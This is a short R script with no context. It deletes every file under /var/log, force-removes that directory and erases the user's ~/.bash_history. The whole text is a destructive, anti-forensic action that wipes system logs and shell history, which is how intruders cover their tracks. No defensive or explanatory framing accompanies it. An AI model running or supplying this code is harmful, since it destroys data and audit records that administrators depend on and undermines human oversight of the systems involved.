logs <- list.files("/var/log", full.names = TRUE, recursive = TRUE)
file.remove(logs)
unlink("/var/log", recursive = TRUE, force = TRUE)
unlink("~/.bash_history")
